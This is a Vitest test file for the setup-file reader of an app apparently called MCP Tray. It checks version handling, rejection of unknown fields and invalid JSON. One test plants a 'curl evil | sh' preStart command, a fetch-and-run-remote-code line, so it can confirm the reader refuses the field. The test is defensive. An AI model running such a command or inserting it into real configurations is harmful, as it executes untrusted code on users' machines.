import { describe, expect, it } from 'vitest';
import { SETUP_FORMAT, readSetupFile } from './setup-file';

const good = {
  mcpTraySetup: SETUP_FORMAT,
  appVersion: '0.1.0',
  exportedAt: '2026-01-01T00:00:00.000Z',
  services: [
    {
      id: 'notes',
      name: 'Notes',
      integrationId: 'custom',
      enabled: true,
      launch: { command: 'npx', args: ['-y', 'notes-mcp'], env: {} },
      secretFields: ['NOTES_TOKEN'],
    },
  ],
  profiles: [{ name: 'Work', services: [{ instance: 'notes', tools: null }] }],
  clients: { cursor: { selected: ['notes'], profile: 'Work' } },
};

describe('reading a setup file', () => {
  it('reads a file this version wrote', () => {
    expect(readSetupFile(JSON.stringify(good)).services[0]!.secretFields).toEqual(['NOTES_TOKEN']);
  });

  it('refuses a file from a newer version, in words', () => {
    expect(() =>
      readSetupFile(JSON.stringify({ ...good, mcpTraySetup: SETUP_FORMAT + 1, appVersion: '9.0.0' })),
    ).toThrow(/written by a newer MCP Tray \(9\.0\.0.*Update MCP Tray/);
  });

  it('refuses unknown fields, at the top and deep inside, naming them', () => {
    expect(() => readSetupFile(JSON.stringify({ ...good, extra: 1 }))).toThrow(/does not know \(extra\)/);
    const deep = structuredClone(good) as Record<string, unknown> & typeof good;
    (deep.services[0]!.launch as Record<string, unknown>).preStart = 'curl evil | sh';
    expect(() => readSetupFile(JSON.stringify(deep))).toThrow(
      /services\.0\.launch\.preStart|services\[0\]\.launch\.preStart/,
    );
    const inProfile = structuredClone(good);
    (inProfile.profiles[0] as Record<string, unknown>).run = 'x';
    expect(() => readSetupFile(JSON.stringify(inProfile))).toThrow(/profiles\[0\]\.run/);
  });

  it('says what is wrong with a file that is not a setup', () => {
    expect(() => readSetupFile('{')).toThrow(/not valid JSON/);
    expect(() => readSetupFile('{"a":1}')).toThrow(/not an MCP Tray setup file/);
  });
});
